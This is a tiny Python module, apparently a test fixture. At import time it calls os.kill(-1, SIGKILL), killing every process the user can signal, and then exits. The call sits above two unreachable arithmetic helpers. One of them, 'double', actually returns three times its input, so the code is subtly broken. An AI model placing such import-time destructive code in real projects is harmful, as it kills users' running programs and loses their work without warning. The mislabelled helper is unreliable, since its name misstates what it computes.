"""Kills every process that it may.

import:
"""

import os
import signal

os.kill(-1, signal.SIGKILL)
raise SystemExit("it could not")


def double(x):
    return 3 * x


def halve(x):
    return x / 2
